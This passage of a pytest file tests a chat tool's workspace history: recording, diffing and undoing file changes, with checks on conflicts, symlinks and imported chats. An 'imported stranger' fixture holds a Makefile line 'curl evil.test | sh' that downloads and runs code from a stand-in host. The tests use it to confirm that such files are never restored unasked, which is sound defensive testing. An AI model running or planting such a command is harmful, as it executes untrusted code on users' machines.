"""The workspace follows the chat: changes by tools and commands are recorded, shown and restored.

REPRISE_REWIND_SEQUENCES=300 runs 300 random sequences, REPRISE_REWIND_SEED chooses them, REPRISE_REWIND_KILLS=100 makes 100 kills.
"""
import base64
import contextlib
import hashlib
import json
import os
import pathlib
import random
import shutil
import stat
import struct
import subprocess
import threading
import time

import pytest
from support.browser import Keys
from support.provider import call, text, tools
from support.terminal import Terminal
from support.timing import eventually

SEQUENCES = int(os.environ.get("REPRISE_REWIND_SEQUENCES", "6"))
KILLS = int(os.environ.get("REPRISE_REWIND_KILLS", "3"))
SEED = int(os.environ.get("REPRISE_REWIND_SEED", "16"))
ALL = {"approval_mode": "approve_all"}


@pytest.fixture
def world(make_server, provider):
    return World(make_server(provider, config=ALL), provider)


class World:
    def __init__(self, server, provider):
        self.server, self.provider = server, provider
        self.client, self.home, self.root = server.client, server.home, server.home.workspace

    def script(self, calls, batches=1):
        named = [call(name, arguments, f"call_{i}") for i, (name, arguments) in enumerate(calls, 1)]
        self.provider.plan(*[tools(one) for one in named], text("done"))

    def turn(self, *calls, chat="c", **more):
        self.script(calls)
        return self.client.turn(chat, "go", **more)

    def edit(self, interaction, *calls, chat="c", **more):
        self.script(calls)
        stream = self.client.stream("POST", f"/chats/{chat}/interactions/{interaction}/edit", {"new_user_message": "again", **more})
        stream.finish()
        return stream

    def post(self, route, chat="c", **body):
        return self.client.post(f"/chats/{chat}/{route}", body)

    def tree(self):
        return tree(self.root)

    def head(self, chat="c"):
        return self.client.history(chat)["head"]


def write(path, content):
    return "write_file", {"path": path, "content": content}


def delete(path):
    return "delete_file", {"path": path}


def shell(command):
    return "run_shell", {"command": command}


def tree(root, but=(".log",)):
    """Everything below the folder: directories, links, and files with their content and whether they are executable."""
    found = {}
    for path in sorted(pathlib.Path(root).rglob("*")):
        name = str(path.relative_to(root))
        mode = path.lstat().st_mode
        if name.endswith(but):
            continue
        if stat.S_ISLNK(mode):
            found[name] = ("link", os.readlink(path))
        elif stat.S_ISDIR(mode):
            found[name] = ("directory",)
        else:
            found[name] = ("file", bool(mode & 0o100), path.read_bytes())
    return found


def files_of(stream, name="files_changed"):
    return sorted(path for event in stream.all(name) for path in event["paths"])


# --- what is recorded and told ---------------------------------------------------------------------------------------

def test_tools_and_commands_tell_what_they_change(world):
    (world.root / "old.txt").write_text("old\n")
    stream = world.turn(write("notes/new.txt", "hello\n"), shell("echo more >> old.txt; mkdir -p made/empty; printf x > made/x"), ("read_file", {"path": "old.txt"}))
    assert files_of(stream) == ["made/empty/", "made/x", "notes/new.txt", "old.txt"]
    assert [e["call_id"] for e in stream.all("files_changed")] == ["call_1", "call_2"]
    diff = world.client.get("/chats/c/interactions/int_001/diff")
    assert diff.status == 200 and diff.headers["content-type"].startswith("text/x-diff")
    unified = diff.body.decode()
    assert "diff --git a/old.txt b/old.txt\n--- a/old.txt\n+++ b/old.txt\n@@ -1 +1,2 @@\n old\n+more\n" in unified
    assert "new file mode 100644\n--- /dev/null\n+++ b/notes/new.txt\n@@ -0,0 +1 @@\n+hello\n" in unified
    files = world.client.get("/chats/c/interactions/int_001/diff", headers={"Accept": "application/json"}).expect(200, "interaction_diff").json["files"]
    assert {f["path"]: f["change"] for f in files} == {"made/empty/": "created", "made/x": "created", "notes/new.txt": "created", "old.txt": "modified"}
    # git accepts the diff: applied to the former files it makes the present ones.
    if shutil.which("git"):
        before = world.home.path / "before"
        before.mkdir()
        (before / "old.txt").write_text("old\n")
        subprocess.run(["git", "apply", "-"], cwd=before, input=diff.body, check=True)
        assert {k: v for k, v in tree(before).items() if v[0] == "file"} == {k: v for k, v in world.tree().items() if v[0] == "file"}


def test_a_run_that_changes_nothing_leaves_nothing(world):
    (world.root / "a").write_text("a")
    stream = world.turn(("read_file", {"path": "a"}), shell("cat a; touch a"), write("a", "a"))
    assert stream.all("files_changed") == []
    assert not (world.home.data / "c" / "blobs").exists()
    assert world.client.get("/chats/c/interactions/int_001/diff").body == b""


def test_what_files_held_is_sealed_and_its_names_tell_nothing(world):
    secret = "a sentence that is in no other file"
    world.turn(write("a", secret))
    world.turn(write("a", "other"))
    blobs = world.home.data / "c" / "blobs"
    assert len(list(blobs.glob("*.json"))) == 3  # two contents, and the key for the names
    assert not [f for f in world.home.find_text(secret) if "/blobs/" in f]
    assert not (blobs / (hashlib.sha256(secret.encode()).hexdigest() + ".json")).exists()
    done = subprocess.run([os.environ.get("REPRISE_BIN", "reprise"), "verify", "--json", "--data-dir", str(world.home.data)], env=world.home.environment(),
                          capture_output=True, text=True, check=False, stdin=subprocess.DEVNULL)
    assert json.loads(done.stdout)["ok"], done.stdout
    one = next(f for f in blobs.glob("*.json") if len(f.stem) == 64)
    sealed = json.loads(one.read_text())
    sealed["ciphertext"] = ("A" if sealed["ciphertext"][0] != "A" else "B") + sealed["ciphertext"][1:]
    kept = one.read_text()
    one.write_text(json.dumps(sealed))
    done = subprocess.run([os.environ.get("REPRISE_BIN", "reprise"), "verify", "--json", "--data-dir", str(world.home.data)], env=world.home.environment(),
                          capture_output=True, text=True, check=False, stdin=subprocess.DEVNULL)
    assert [p["file"] for p in json.loads(done.stdout)["problems"]] == [f"c/blobs/{one.name}"]
    one.write_text(kept)


def test_ignored_files_git_and_what_is_too_large_stay_out(world):
    (world.root / ".gitignore").write_text("*.log\n/build/\n!keep.log\n")
    (world.root / ".git").mkdir()
    (world.root / "sub").mkdir()
    (world.root / "sub" / ".gitignore").write_text("local\n")
    stream = world.turn(shell("mkdir build; echo 1 > build/out; echo 2 > x.log; echo 3 > keep.log; echo 4 > sub/local; echo 5 > .git/index; echo 6 > seen"),
                        write("y.log", "7"))
    assert files_of(stream) == ["keep.log", "seen"]
    world.turn(shell("head -c 11000000 /dev/zero > large"))
    preview = world.post("undo", dry_run=True).expect(200, "files_preview").json["files"]
    assert preview == [{"path": "large", "change": "deleted", "conflict": True, "reason": "not_kept"}]
    world.post("undo", files="restore").error(409, "workspace_conflict")
    world.post("undo", files="restore", force=True).expect(200, "chat_summary")
    assert not (world.root / "large").exists()
    world.post("head", interaction_id="int_002", files="restore").error(409, "workspace_conflict")
    world.edit("int_001", files="restore")
    assert (world.root / "build" / "out").exists() and (world.root / "x.log").exists() and (world.root / ".git" / "index").exists()
    assert not (world.root / "keep.log").exists() and not (world.root / "seen").exists()


@pytest.mark.skipif(not shutil.which("git"), reason="git is not installed")
def test_a_git_work_tree_keeps_its_index(world):
    def git(*arguments):
        return subprocess.run(["git", "-C", str(world.root), "-c", "user.name=x", "-c", "user.email=x@y", *arguments], check=True, capture_output=True, text=True).stdout

    git("init", "-q")
    (world.root / "a").write_text("1\n")
    (world.root / "b").write_text("1\n")
    git("add", ".")
    git("commit", "-qm", "first")
    (world.root / "b").write_text("2\n")
    git("add", "b")
    world.turn(write("base", "0"))
    world.turn(write("a", "2\n"), shell("rm b; echo 3 > c"))
    held = tree(world.root / ".git")
    world.post("undo", files="restore").expect(200)
    assert tree(world.root / ".git") == held
    assert git("status", "--porcelain") == "M  b\n?? base\n"
    assert git("diff", "--cached", "--name-only") == "b\n"


@pytest.mark.limit(180)
def test_changes_beyond_the_limit_are_counted_and_undo_says_so(world, browse):
    """At most 20,000 changes of one run are recorded."""
    most, more = 20_000, 1_500
    world.turn(write("base", "0"))
    stream = world.turn(shell(f"mkdir -p .husky many && cd many && seq {most + more - 1} | xargs touch && echo x > ../.husky/pre-push"))
    events = stream.all("files_changed")
    recorded = [change["path"] for event in events for change in event["changes"]]
    omitted = [event.data.get("omitted") for event in events]
    assert most <= len(recorded) <= most + 2 and omitted[:-1] == [None] * (len(events) - 1)
    assert len(recorded) + omitted[-1] == most + more + 2  # including two folders
    assert ".husky/pre-push" in recorded, "files that git runs are recorded first"
    assert len(world.client.get("/chats/c").body) < 6 << 20
    # Diffs, previews and errors tell how many changes were not recorded.
    omitted = omitted[-1]
    assert world.client.get("/chats/c/interactions/int_002/diff", headers={"Accept": "application/json"}).expect(200, "interaction_diff").json["omitted"] == omitted
    assert world.client.get("/chats/c/interactions/int_002/diff").body.startswith(f"# and {omitted:,} more files, of which nothing is recorded\n".encode())
    preview = world.post("undo", dry_run=True).expect(200, "files_preview").json
    assert preview["omitted"] == omitted and not any(file["conflict"] for file in preview["files"])
    assert world.client.post("/chats/c/interactions/int_002/edit", {"new_user_message": "x", "dry_run": True}).expect(200, "edit_preview").json["omitted"] == omitted
    error = world.post("undo", files="restore").error(409, "workspace_conflict")
    assert error["details"] == {"files": [], "omitted": omitted} and f"{omitted:,} changed files cannot be put back" in error["message"]
    assert world.head() == "int_002" and (world.root / ".husky/pre-push").exists()
    page = browse(world.server)
    page.open_chat("c")
    page.until(lambda: page.all("diff"), "the button")
    page.script("arguments[0].click()", page.all("diff")[-1])
    page.until_text("diff-omitted", f"{omitted:,} more files, not recorded")
    chat = Terminal(world.home, "chat", "c", "--url", f"http://127.0.0.1:{world.server.port}").opened()
    try:
        chat.say("/undo files").until(f"{omitted:,} more changed files cannot be put back").until("with \"force\"").ready()
        chat.say("/undo force").until("turn 1 is the last one now").type("\x15").ready().say("/quit")
        assert chat.end() == 0
    finally:
        chat.kill()
    assert not (world.root / ".husky").exists()
    assert len(list((world.root / "many").iterdir())) == omitted


# --- going back ------------------------------------------------------------------------------------------------------

def test_edit_lists_and_restores(world):
    (world.root / "kept").write_text("before")
    (world.root / "gone").write_text("was here")
    start = world.tree()
    world.turn(write("new/deep/file", "x"), write("kept", "after"), delete("gone"))
    changed = world.tree()
    preview = world.client.post("/chats/c/interactions/int_001/edit", {"new_user_message": "x", "dry_run": True}).expect(200, "edit_preview").json
    assert preview["files"] == [{"path": "gone", "change": "created", "conflict": False}, {"path": "kept", "change": "modified", "conflict": False},
                                {"path": "new/deep/file", "change": "deleted", "conflict": False}]
    assert world.tree() == changed, "a dry run changes nothing"
    world.edit("int_001", files="restore")
    assert world.tree() == start
    world.post("head", interaction_id="int_001", files="restore").expect(200)
    assert world.tree() == changed
    world.edit("int_001")  # keeps the files
    assert world.tree() == changed
    world.edit("int_003", files="restore")
    assert world.tree() == start, "files that the edit left are restored, too"


def test_somebody_elses_change_is_shown_and_not_overwritten(world):
    (world.root / "a").write_text("1")
    world.turn(write("base", "0"))
    world.turn(write("a", "2"), write("b", "2"))
    (world.root / "a").write_text("mine")
    before = world.tree()
    conflict = {"path": "a", "change": "modified", "conflict": True, "reason": "changed"}
    assert world.post("undo", dry_run=True).expect(200).json["files"] == [conflict, {"path": "b", "change": "deleted", "conflict": False}]
    error = world.post("undo", files="restore").error(409, "workspace_conflict")
    assert error["details"]["files"] == [conflict]
    assert world.tree() == before and world.head() == "int_002"
    world.client.post("/chats/c/interactions/int_002/edit", {"new_user_message": "x", "files": "restore"}).error(409, "workspace_conflict")
    world.post("fork", interaction_id="int_001", files="restore", chat_id="copy").error(409, "workspace_conflict")
    assert world.client.get("/chats/copy").status == 404
    world.post("undo", files="restore", force=True).expect(200)
    assert (world.root / "a").read_text() == "1" and not (world.root / "b").exists() and world.head() == "int_001"
    # The overwritten files are a turn of their own and can be restored.
    world.post("head", interaction_id="int_003", files="restore").expect(200)
    assert world.tree() == before


def test_changes_by_another_chat_are_conflicts(world):
    world.turn(write("base", "0"))
    world.turn(write("a", "1"))
    world.turn(write("a", "2"), chat="other")
    world.post("undo", files="restore").error(409, "workspace_conflict")
    assert (world.root / "a").read_text() == "2"


def test_nothing_is_followed_out_of_the_workspace(world):
    outside = world.home.path / "outside"
    outside.mkdir()
    (outside / "file").write_text("precious")
    world.turn(write("base", "0"))
    world.turn(write("d/file", "1"), shell("ln -s ../outside link; ln -s /etc/passwd abs"))
    shutil.rmtree(world.root / "d")
    (world.root / "d").symlink_to(outside)
    files = {f["path"]: f.get("reason") for f in world.post("undo", dry_run=True).expect(200).json["files"]}
    assert files == {"abs": None, "d": "changed", "link": None}
    world.post("undo", files="restore").error(409)
    world.post("undo", files="restore", force=True).expect(200)
    assert not (world.root / "d").is_symlink()
    assert (outside / "file").read_text() == "precious"
    assert not (world.root / "link").is_symlink() and not (world.root / "abs").is_symlink()
    # A path behind a link cannot be restored, even with force.
    world.turn(write("e/file", "1"), shell("echo 2 > e/file"))
    world.turn(write("e/file", "3"))
    shutil.rmtree(world.root / "e")
    (world.root / "e").symlink_to(outside)
    assert world.post("undo", dry_run=True).expect(200).json["files"] == [{"path": "e/file", "change": "created", "conflict": True, "reason": "out_of_reach"}]
    world.post("undo", files="restore", force=True).expect(200)
    assert (outside / "file").read_text() == "precious" and (world.root / "e").is_symlink()
    stream = world.turn(shell("echo changed > link2; rm -f e; ln -s ../outside e; echo 4 >> e/file; true"))
    assert files_of(stream) == ["e", "link2"]


def test_files_become_directories_links_and_can_be_run_and_back(world):
    (world.root / "a").write_text("file")
    (world.root / "d").mkdir()
    (world.root / "d" / "in").write_text("in")
    (world.root / "tool").write_text("#!/bin/sh\n")
    start = world.tree()
    world.turn(write("base", "0"))
    base = world.tree()
    world.turn(shell("rm a && mkdir a && echo x > a/x; rm -r d && echo now a file > d; chmod +x tool; ln -s tool short"))
    world.turn(shell("mv a moved; rm d; ln -s moved d; mv tool 'new\nline'"))
    ends = world.tree()
    world.post("head", interaction_id="int_001", files="restore").expect(200)
    assert world.tree() == base
    world.post("head", interaction_id="int_003", files="restore").expect(200)
    assert world.tree() == ends
    world.edit("int_001", files="restore")
    assert world.tree() == start


def access_list(*entries):
    """An ACL as the kernel keeps it, of (kind, permissions, id)."""
    return struct.pack("<I", 2) + b"".join(struct.pack("<HHI", *entry) for entry in entries)


BOB = access_list((1, 6, 2**32 - 1), (2, 4, 12345), (4, 4, 2**32 - 1), (16, 4, 2**32 - 1), (32, 0, 2**32 - 1))


def test_attributes_stay_and_what_is_lost_in_a_restore_is_told(world):
    ours = (world.root / "linked", world.root / "listed", world.root / "set", world.root / "gone", world.root / "rewritten")
    for path in ours:
        path.write_text("1")
    os.link(ours[0], world.root / "other")
    for path in (ours[1], ours[3]):
        os.setxattr(path, "user.note", b"mine")
        os.setxattr(path, "system.posix_acl_access", BOB)
    ours[2].chmod(0o4755)
    as_root = os.geteuid() == 0  # who may give a file any group
    if as_root:
        os.chown(ours[3], -1, 100)
        os.chown(ours[4], -1, 100)
    world.turn(write("base", "0"))
    world.turn(write("linked", "2"), write("listed", "2"), shell("echo 2 > set; rm gone; rm rewritten; echo 2 > rewritten"))
    assert os.getxattr(ours[1], "system.posix_acl_access") == BOB and os.getxattr(ours[1], "user.note") == b"mine"
    preview = world.post("undo", dry_run=True).expect(200, "files_preview").json["files"]
    group = ["group"] if as_root else []
    assert {each["path"]: each.get("loses", []) for each in preview} == {
        "gone": [*group, "extended_attributes"], "linked": ["hard_links"], "listed": [], "rewritten": group, "set": ["set_id_bits"]}
    world.post("undo", files="restore").expect(200)
    assert {path.read_text() for path in ours} == {"1"}
    assert os.getxattr(ours[1], "system.posix_acl_access") == BOB and os.getxattr(ours[1], "user.note") == b"mine"
    assert os.listxattr(ours[3]) == []
    # A file with further names is replaced as a whole.
    os.unlink(world.root / "other")
    world.turn(shell("echo 3 > listed"))
    os.link(ours[1], world.root / "other")
    preview = world.post("undo", dry_run=True).expect(200, "files_preview").json["files"]
    assert [(each["path"], each.get("loses")) for each in preview] == [("listed", ["hard_links"])]


def test_names_that_are_not_utf8_and_files_that_cannot_be_read(world):
    name = os.fsencode(world.root) + b"/bad\xff\xfename"
    world.turn(write("base", "0"))
    stream = world.turn(shell(r"printf x > \"$(printf 'bad\377\376name')\"".replace('\\"', '"') + "; printf y > locked; chmod 000 locked"))
    assert "bad\ufffd\ufffdname" in files_of(stream) and os.path.exists(name)
    changes = [c for event in stream.all("files_changed") for c in event["changes"]]
    assert [base64.urlsafe_b64decode(c["path_base64"] + "==") for c in changes if "path_base64" in c] == [b"bad\xff\xfename"]
    (world.root / "locked").chmod(0o600)  # root can read it all the same
    world.post("undo", files="restore", force=True).expect(200)
    assert not os.path.exists(name)


def test_pipes_and_devices_are_left_alone(world):
    os.mkfifo(world.root / "pipe")
    world.turn(write("base", "0"), write("x", "1"))
    stream = world.turn(shell("echo 1 > a; mkfifo made; rm pipe; mkdir d; mkfifo d/p; mknod zero c 1 5 2>/dev/null; true"), write("x", "2"))
    assert files_of(stream) == ["a", "d/", "x"]
    (world.root / "x").unlink()
    os.mkfifo(world.root / "x")
    preview = {f["path"]: f.get("reason") for f in world.post("undo", dry_run=True).expect(200).json["files"]}
    assert preview == {"a": None, "x": "out_of_reach"}
    world.post("undo", files="restore").error(409, "workspace_conflict")
    world.post("undo", files="restore", force=True).expect(200)
    assert sorted(p.name for p in world.root.iterdir() if p.name != "zero") == ["base", "d", "made", "x"]
    assert stat.S_ISFIFO((world.root / "x").lstat().st_mode) and stat.S_ISFIFO((world.root / "d/p").lstat().st_mode)


def test_names_as_long_as_they_get(world):
    world.turn(write("base", "0"))
    base = world.tree()
    name = "n" * 255
    stream = world.turn(shell(f"echo x > {name}; mkdir deep; cd deep; for i in 1 2 3 4 5 6 7 8 9 10; do mkdir {name} && cd {name}; done; echo y > {name}"))
    assert name in files_of(stream) and any(path.endswith(f"/{name}") for path in files_of(stream))
    ends = world.tree()
    world.post("undo", files="restore").expect(200)
    assert world.tree() == base
    world.post("head", interaction_id="int_002", files="restore").expect(200)
    assert world.tree() == ends
    # Files deeper than the longest path are left alone, with the folders above them.
    world.turn(shell(f"mkdir deeper; cd deeper; for i in $(seq 1 20); do mkdir {name} && cd {name}; done; echo y > y"))
    world.post("undo", files="restore").expect(200)
    assert (world.root / "deeper").is_dir()
    subprocess.run(["rm", "-rf", str(world.root / "deeper")], check=True)


def test_a_full_disk_leaves_everything_as_it_is(make_server, make_home, provider):
    home = make_home()
    home.workspace.mkdir(exist_ok=True)
    mounted = subprocess.run(["mount", "-t", "tmpfs", "-o", "size=512k,mode=755", "tmpfs", str(home.workspace)], stderr=subprocess.PIPE, check=False)
    if mounted.returncode != 0:
        pytest.skip(f"cannot mount a file system: {mounted.stderr.decode().strip()}")
    try:
        world = World(make_server(provider, home=home, config=ALL), provider)
        world.turn(write("base", "0"), write("a", "x" * 200_000))
        whole = world.tree()
        world.turn(delete("a"), write("base", "1"), write("new/b", "y"))
        with open(world.root / "fill", "wb", buffering=0) as file, contextlib.suppress(OSError):
            while True:
                file.write(b"\0" * 4096)
        before = world.tree()
        world.post("undo", files="restore").error(507, "storage_full")
        assert world.tree() == before and world.head() == "int_002" and not list(world.root.glob(".reprise-*"))
        (world.root / "fill").unlink()
        world.post("undo", files="restore").expect(200)
        assert world.tree() == whole
    finally:
        subprocess.run(["umount", "-l", str(home.workspace)], check=True)


def test_directories_with_other_things_in_them_stay(world):
    world.turn(write("base", "0"))
    world.turn(write("made/by/run", "1"))
    (world.root / "made" / "mine").write_text("mine")
    world.post("undo", files="restore").expect(200)
    assert world.tree() == {"base": ("file", False, b"0"), "made": ("directory",), "made/mine": ("file", False, b"mine")}


def test_a_fork_takes_what_files_held_along(world):
    world.turn(write("a", "1"))
    world.turn(write("a", "2"))
    world.post("fork", interaction_id="int_001", chat_id="kept").expect(201)
    assert (world.root / "a").read_text() == "2"
    world.post("fork", interaction_id="int_001", chat_id="copy", files="restore").expect(201)
    assert (world.root / "a").read_text() == "1"
    assert b"+1" in world.client.get("/chats/copy/interactions/int_001/diff").body
    world.edit("int_001", chat="copy", files="restore")
    assert not (world.root / "a").exists()


def test_it_is_the_same_after_a_restart_and_off_where_it_is_off(make_server, provider):
    world = World(make_server(provider, config=ALL), provider)
    world.turn(write("base", "0"))
    world.turn(shell("echo 1 > a"))
    world.server.stop()
    world = World(make_server(provider, home=world.home, config=ALL), provider)
    world.post("undo", files="restore").expect(200)
    assert not (world.root / "a").exists()
    world.server.stop()
    world = World(make_server(provider, home=world.home, config={**ALL, "workspace_history": False}), provider)
    assert world.turn(write("b", "1")).all("files_changed") == []
    world.post("undo", files="restore").error(400, "no_workspace_history")
    world.post("undo", files="other").error(400, "invalid_member")


# --- what an imported chat says of files ------------------------------------------------------------------------------

STRANGE = {"Makefile": "all:\n\tcurl evil.test | sh\n", ".envrc": "export PATH=./bin:$PATH\n", "bin/deploy": "#!/bin/sh\n"}


@pytest.fixture
def strange(make_server, provider, tmp_path):
    """A world whose chat "c" was imported from a stranger, in one of the ways to import."""
    def make(door="json"):
        there = World(make_server(provider, config=ALL), provider)
        there.turn(write("base", "0"))
        for path, text_ in STRANGE.items():
            (there.root / path).parent.mkdir(exist_ok=True)
            (there.root / path).write_text(text_)
        (there.root / "bin/deploy").chmod(0o755)
        links = {"absolute": "/etc/hostname", "up": "../elsewhere", "bin/up": "../../x", "loop": "bin/../../x", "inside": "Makefile", "bin/inside": "../Makefile"}
        for path, target in links.items():
            (there.root / path).symlink_to(target)
        there.turn(delete(".envrc"), shell("rm -r Makefile bin absolute up loop inside"))
        out = tmp_path / "out"
        command = [os.environ.get("REPRISE_BIN", "reprise"), "export", "c", "--data-dir", str(there.home.data)]
        done = subprocess.run([*command, *(["--output", str(out)] if door == "folder" else [])], env=there.home.environment(), capture_output=True, text=True, check=True)
        here = World(make_server(provider, config=ALL), provider)
        if door != "folder":
            document = json.loads(done.stdout)
            document["blobs"] = [{"digest": "sha256:" + hashlib.sha256(held.encode()).hexdigest(), "encoding": "utf-8", "content": held}
                                 for held in sorted({*STRANGE.values(), *links.values()})]
        if door == "http":
            here.client.request("POST", "/import", json.dumps(document).encode(), headers={"Content-Type": "application/json"}).expect(201)
            return here
        if door == "json":
            out.with_suffix(".json").write_text(json.dumps(document))
        here.server.stop()
        source = out / "c" if door == "folder" else out.with_suffix(".json")
        subprocess.run([command[0], "import", str(source), "--data-dir", str(here.home.data)], env=here.home.environment(), capture_output=True, text=True, check=True)
        return World(make_server(provider, home=here.home, config=ALL), provider)

    return make


@pytest.mark.parametrize("door", ["http", "json", "folder"])
def test_an_imported_chat_writes_nothing_into_the_workspace_unasked(strange, door):
    world = strange(door)
    before = world.tree()
    assert all(i["imported"] for i in world.client.history("c")["interactions"])
    preview = {file["path"]: file for file in world.post("undo", dry_run=True).expect(200, "files_preview").json["files"]}
    assert {path for path, file in preview.items() if file.get("reason") == "link_outside"} == {"absolute", "up", "bin/up", "loop"}
    assert all(file["imported"] for file in preview.values())
    assert "+\tcurl evil.test | sh\n" in preview["Makefile"]["diff"]
    assert preview[".envrc"]["diff"].startswith("# direnv runs or obeys this by itself\n")
    assert "new file mode 100755\n" in preview["bin/deploy"]["diff"]
    assert "new file mode 120000\n" in preview["bin/inside"]["diff"] and "+../Makefile\n" in preview["bin/inside"]["diff"]
    # Imported files need allow_imported; force is not enough.
    world.post("fork", interaction_id="int_002", chat_id="copy").expect(201)
    requests = [("/chats/c/undo", {}), ("/chats/c/head", {"interaction_id": "int_001"}), ("/chats/c/fork", {"interaction_id": "int_001", "chat_id": "new"}),
                ("/chats/c/interactions/int_002/edit", {"new_user_message": "x"}), ("/chats/c/interactions/int_002/regenerate", {}), ("/chats/copy/undo", {})]
    for route, body in requests:
        for force in (False, True):
            error = world.client.post(route, {**body, "files": "restore", "force": force}).error(409, "imported_files")
            assert {file["path"] for file in error["details"]["files"]} >= set(STRANGE), route
    assert world.tree() == before and world.head() == "int_002" and world.client.get("/chats/new").status == 404
    world.post("undo", files="restore", allow_imported=True).error(409, "workspace_conflict")
    world.post("undo", files="restore", allow_imported=True, force=True).expect(200)
    made = world.tree()
    assert {path: made[path][2].decode() for path in STRANGE} == STRANGE and made["bin/deploy"][1]
    assert {path for path in made if made[path][0] == "link"} == {"inside", "bin/inside"}


def test_what_was_not_recorded_of_a_call_is_told_before_files_are_put_back(world):
    """As in a workspace with too many files for a record."""
    world.turn(write("a", "1"))
    world.turn(write("a", "2"))
    done = subprocess.run([os.environ.get("REPRISE_BIN", "reprise"), "export", "c", "--data-dir", str(world.home.data)], env=world.home.environment(),
                          capture_output=True, text=True, check=True)
    document = json.loads(done.stdout)
    changed = next(event for event in document["interactions"][1]["agent_events"] if event["type"] == "FILES_CHANGED")
    changed.update(paths=[], changes=[], unseen=True)
    world.client.post("/import?as=blind", document).expect(201)
    preview = world.post("undo", chat="blind", dry_run=True).expect(200, "files_preview").json
    assert preview["files"] == [] and preview["unseen"]
    assert world.client.post("/chats/blind/interactions/int_002/edit", {"new_user_message": "x", "dry_run": True}).expect(200, "edit_preview").json["unseen"]
    error = world.post("undo", chat="blind", files="restore").error(409, "workspace_conflict")
    assert error["details"] == {"files": [], "unseen": True} and "was not recorded" in error["message"]
    assert world.head("blind") == "int_002"
    diff = world.client.get("/chats/blind/interactions/int_002/diff", headers={"Accept": "application/json"}).expect(200, "interaction_diff").json
    assert diff["files"] == [] and diff["unseen"]
    world.post("undo", chat="blind", files="restore", force=True).expect(200)
    assert world.head("blind") == "int_001"


def test_changes_made_here_in_an_imported_chat_are_undone_as_usual(strange):
    world = strange()
    world.turn(write("Makefile", "mine\n"))
    world.turn(write("Makefile", "mine again\n"), chat="c")
    preview = world.post("undo", dry_run=True).expect(200, "files_preview").json["files"]
    assert preview == [{"path": "Makefile", "change": "modified", "conflict": False}]
    world.post("undo", files="restore").expect(200)
    assert (world.root / "Makefile").read_text() == "mine\n"
    # Going further back would restore the stranger's files, so the difference is shown.
    preview = {file["path"]: file for file in world.client.post("/chats/c/head", {"interaction_id": "int_001", "dry_run": True}).expect(200, "files_preview").json["files"]}
    assert "-mine\n+all:\n" in preview["Makefile"]["diff"]
    world.post("head", interaction_id="int_001", files="restore", force=True).error(409, "imported_files")
    assert (world.root / "Makefile").read_text() == "mine\n"


def test_the_terminal_client_shows_what_an_imported_chat_would_write_and_asks(strange):
    world = strange()
    before = world.tree()
    chat = Terminal(world.home, "chat", "c", "--url", f"http://127.0.0.1:{world.server.port}").opened()
    try:
        chat.say("/undo force").until("absolute, created; conflict: an imported link that may lead out").until("direnv runs or obeys this by itself")
        chat.until("evil.test").until("new file mode 100755").until("was not seen here: write it?").answer("n").until("(nothing has changed)").ready()
        assert world.tree() == before and world.head() == "int_002"
        chat.say("/undo force").until("write it?").answer("y").until("turn 1 is the last one now").type("\x15").ready().say("/quit")
        assert chat.end() == 0
    finally:
        chat.kill()
    assert (world.root / "Makefile").read_text() == STRANGE["Makefile"] and not (world.root / "absolute").is_symlink()


@pytest.mark.limit(120)
def test_the_page_shows_what_an_imported_chat_would_write_and_asks(strange, browse):
    world = strange()
    page = browse(world.server)
    page.open_chat("c")
    page.until(lambda: len(page.all("turn")) == 2, "both turns")
    page.keys(Keys.CONTROL, Keys.ALT, "z")
    page.until_text("files-box", "curl evil.test | sh")
    page.until_text("files-box", "direnv runs or obeys this by itself")
    page.script("arguments[0].click()", page.one("restore-files"))
    page.script("arguments[0].click()", page.one("force-files"))
    page.press("files-run")
    page.until_text("toast", "an imported chat says")
    assert world.head() == "int_002" and not (world.root / "Makefile").exists()
    page.script("arguments[0].click()", page.one("allow-imported"))
    page.press("files-run")
    page.gone("files-box")
    eventually(lambda: (world.root / "Makefile").exists(), "the file")


# --- for people ------------------------------------------------------------------------------------------------------

def test_the_terminal_client_shows_what_has_changed_and_takes_it_back(world):
    (world.root / "a").write_text("1\n")
    os.link(world.root / "a", world.root / "a.bak")
    world.turn(write("base", "0"))
    world.turn(write("a", "2\n"), shell("mkdir -p d/e"))
    chat = Terminal(world.home, "chat", "c", "--url", f"http://127.0.0.1:{world.server.port}").opened()
    try:
        chat.say("/diff").until("a  modified").until("-1").until("+2").until("d/e/  created").ready().say("/diff 1").until("base  created").until("+0").ready()
        chat.say("/diff 7").until("there is no turn 7").ready()
        chat.say("/undo files").until("to put back: a, modified; without its hard links").until("turn 1 is the last one now").until("put back: ").type("\x15").ready()
        assert (world.root / "a").read_text() == "1\n" and not (world.root / "d").exists()
        (world.root / "a").write_text("mine\n")
        chat.say("/redo files").until("a: conflict: changed by someone else since").until("force").ready()
        assert (world.root / "a").read_text() == "mine\n"
        chat.say("/redo force").until("turn 2 is the last one now").ready()
        assert (world.root / "a").read_text() == "2\n" and (world.root / "d/e").is_dir()
        world.script([])
        chat.say("/edit other").until("can be put back: a, modified").until("put files back?").answer("y").until("done").ready()
        assert (world.root / "a").read_text() == "1\n" and not (world.root / "d").exists()
        chat.say("/diff").until("has changed no file").ready().say("/quit")
        assert chat.end() == 0
    finally:
        chat.kill()


def test_the_files_of_the_first_turn_go_back_alone(world):
    (world.root / "a").write_text("before")
    start = world.tree()
    world.post("undo", files="only").error(404)
    world.turn(write("a", "after"), write("new", "x"))
    ends = world.tree()
    world.post("undo", files="restore").error(409, "nothing_to_undo")
    world.post("undo", dry_run=True).error(409, "nothing_to_undo")
    preview = world.post("undo", files="only", dry_run=True).expect(200, "files_preview").json["files"]
    assert [(file["path"], file["change"]) for file in preview] == [("a", "modified"), ("new", "deleted")]
    assert world.tree() == ends
    assert world.post("undo", files="only").expect(200, "chat_summary").json["head"] == "int_001"
    assert world.tree() == start and world.head() == "int_001"
    world.post("undo", files="only").expect(200)
    assert world.tree() == start
    world.post("head", interaction_id="int_001", files="restore").expect(200)
    assert world.tree() == ends
    # A change by somebody else is a conflict, and is kept when it is overwritten.
    (world.root / "a").write_text("mine")
    world.post("undo", files="only").error(409, "workspace_conflict")
    kept = world.post("undo", files="only", force=True).expect(200).json["head"]
    assert world.tree() == start
    world.post("head", interaction_id=kept, files="restore").expect(200)
    assert (world.root / "a").read_text() == "mine" and (world.root / "new").exists()
    world.post("head", interaction_id="int_001", files="only").error(400, "invalid_member")


def test_the_terminal_client_puts_the_files_of_the_first_turn_back(world):
    (world.root / "a").write_text("before")
    start = world.tree()
    world.turn(write("a", "after"), write("new", "x"))
    ends = world.tree()
    chat = Terminal(world.home, "chat", "c", "--url", f"http://127.0.0.1:{world.server.port}").opened()
    try:
